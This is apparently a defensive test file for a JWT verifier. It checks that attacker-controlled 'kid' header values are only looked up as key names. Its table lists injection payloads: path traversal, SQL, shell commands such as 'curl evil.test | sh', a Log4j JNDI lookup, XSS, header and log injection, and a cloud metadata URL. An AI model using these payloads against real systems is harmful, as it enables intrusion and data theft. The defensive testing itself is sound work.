/**
 * What attackers write into `kid` (RFC 8725 section 3.10): whatever it is, it is looked up in a set of keys and nowhere
 * else.
 */
import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import { forge } from "../forge.ts"
import { setUp, signerOf } from "../support.ts"

/** Most characters that a kid may have. */
const longest = 1_024

const kids: Readonly<Record<string, string>> = {
  nothing: "",
  "a space": " ",
  "a path out of a folder": "../../../../../../dev/null",
  "an encoded path": "..%2f..%2fetc%2fpasswd",
  "a path of Windows": "..\\..\\windows\\win.ini",
  "an absolute path": "/proc/sys/kernel/randomize_va_space",
  "a file URL": "file:///etc/passwd",
  "a URL": "https://evil.test/jwks.json?token=1#fragment",
  "a URL of a cloud": "http://169.254.169.254/latest/meta-data/",
  SQL: "x' UNION SELECT 'secret'; DROP TABLE keys; --",
  "a shell command": "x; curl evil.test | sh",
  "a command in backticks": "`id`",
  "a command in dollars": "$(id)${7*7}{{7*7}}<%= 7*7 %>",
  LDAP: "*)(uid=*))(|(uid=*",
  "a lookup of Log4j": "${jndi:ldap://evil.test/a}",
  markup: "<script>alert(1)</script>",
  "a header": "x\r\nSet-Cookie: admin=true\r\n\r\n",
  "a line of a log": "x\n2026-11-20 INFO token accepted",
  "colours of a terminal": "\u001b[2J\u001b[31mred",
  NUL: "\u0000",
  "NUL after the right one": "right\u0000",
  "a bidirectional override": "\u202edik",
  "a byte order mark": "\ufeffright",
  "a space after the right one": "right ",
  "the right one in capitals": "RIGHT",
  "the right one in other letters": "rіght",
  "composed and decomposed letters": "e\u0301\u00e9",
  emoji: "🔑".repeat(10),
  "half a surrogate pair": "\ud83d",
  "the other half": "\udd11",
  "a name of Object's": "__proto__",
  "its constructor": "constructor",
  "its toString": "toString",
  "its hasOwnProperty": "hasOwnProperty",
  "a number": "0",
  undefined: "undefined",
  null: "null",
  "a list": '["right"]',
  "an object": '{"kid":"right"}',
  "a wildcard": "*",
  "a pattern": ".*",
  "a pattern that explodes": "(a+)+$",
  "as much as a kid may be": "k".repeat(longest),
  "one more than that": "k".repeat(longest + 1),
  "ten thousand letters": "k".repeat(10_000),
}

describe("a kid is a name, whatever is in it", () => {
  for (const [name, kid] of Object.entries(kids)) {
    it.effect(`${name}: unknown, and quoted in the message`, () =>
      Effect.gen(function* () {
        const { claims, error, forge, header, idp } = yield* setUp({ provider: { keys: { keys: [{ kid: "right" }] } } })
        const failure = yield* error(yield* forge({ ...header, kid }, claims))
        assert.deepInclude(failure, { _tag: "KeyNotFound", tenant: "acme", provider: "idp", confirmed: true })
        assert.match(failure.message, /^[^\p{Cc}\u2028\u2029\u202a-\u202e]*$/u)
        assert.isBelow(failure.message.length, 400)
        assert.isFalse(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/.test(failure.message))
        for (const { url } of idp.log) assert.strictEqual(url, idp.jwksUrl)
      }),
    )

    it.effect(`${name}: it is the key's, if a provider publishes a key of that name, and it may be one`, () =>
      Effect.gen(function* () {
        const { claims, error, idp, verify } = yield* setUp({
          provider: { keys: { keys: [{ kid }, { kid: "other" }] } },
        })
        const token = yield* forge(signerOf(idp), { alg: "ES256", kid }, claims)
        if (kid.length <= longest) {
          assert.strictEqual((yield* verify(token)).thumbprint, idp.keys.current.thumbprint)
        } else {
          assert.deepInclude(yield* error(token), { _tag: "KeyNotFound", dropped: "InvalidKid" })
        }
      }),
    )
  }

  it.effect("names of Object's that are not published are unknown where others are", () =>
    Effect.gen(function* () {
      const { claims, error, forge, header } = yield* setUp({
        provider: { keys: { keys: [{ kid: "__proto__" }] } },
      })
      for (const kid of ["constructor", "valueOf", "__defineGetter__"]) {
        assert.strictEqual((yield* error(yield* forge({ ...header, kid }, claims)))._tag, "KeyNotFound")
      }
    }),
  )

  it.effect("a thousand different ones cost the provider no more than its budget", () =>
    Effect.gen(function* () {
      const { claims, error, header, idp } = yield* setUp()
      for (let i = 0; i < 1_000; i++) {
        const encoded = [{ ...header, kid: `k${i}` }, claims].map((part) =>
          Buffer.from(JSON.stringify(part)).toString("base64url"),
        )
        assert.strictEqual((yield* error(`${encoded.join(".")}.AAAA`))._tag, "KeyNotFound")
      }
      assert.isAtMost(idp.requests, 3)
    }),
  )
})
